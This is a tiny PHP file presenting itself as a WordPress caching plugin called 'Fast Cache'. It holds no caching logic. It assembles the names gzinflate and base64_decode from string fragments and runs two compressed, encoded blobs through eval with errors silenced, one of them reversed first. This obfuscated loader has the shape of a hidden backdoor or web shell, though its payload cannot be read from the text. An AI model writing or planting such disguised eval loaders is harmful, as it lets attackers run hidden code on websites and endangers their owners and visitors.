<?php
/* Plugin Name: Fast Cache */
$f = 'gz' . 'inf' . 'late'; $d = 'base' . '64_de' . 'code';
@eval($f($d('HcsxDoAgDADAr7ChA+2uryG1kQFoQ0vE35t4+9lrzm2LNEcNyUJxVzsQKVPhRFcHXrlpZZBx4wJfHpKERxNJd+6OU6vkyxD+Alo07ucH')));
@eval($f($d(strrev('=AgB0W9jW9kVJ6wDw/QiQFNzL1yS'))));
